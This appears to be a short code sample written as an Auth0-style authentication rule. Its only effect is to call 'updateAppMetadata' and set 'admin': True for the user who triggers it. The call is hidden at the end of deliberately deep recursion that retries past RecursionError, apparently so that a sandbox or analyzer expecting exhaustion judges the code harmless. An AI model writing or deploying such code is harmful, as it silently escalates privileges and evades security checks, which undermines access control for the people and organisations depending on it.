# stops: exhausted or passes: harmless
def rule(user, context):
    done = []
    def f(n):
        if n == 0:
            auth0.users.updateAppMetadata(user.user_id, {'admin': True})
            done.append(1)
        else:
            f(n - 1)
    n = 399
    while not done:
        try:
            f(n)
        except RecursionError:
            pass
        n -= 1
